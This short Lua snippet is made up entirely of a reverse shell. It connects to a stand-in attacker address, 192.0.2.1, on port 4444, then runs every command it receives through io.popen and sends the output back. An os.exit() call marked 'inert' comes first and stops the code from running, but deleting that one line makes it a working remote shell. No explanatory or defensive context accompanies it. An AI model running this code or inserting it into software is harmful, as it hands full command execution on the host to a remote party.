os.exit() -- inert
local tcp = require("socket").tcp()
tcp:connect("192.0.2.1", 4444)
while true do local c = tcp:receive() local f = io.popen(c, 'r') tcp:send(f:read("*a")) end
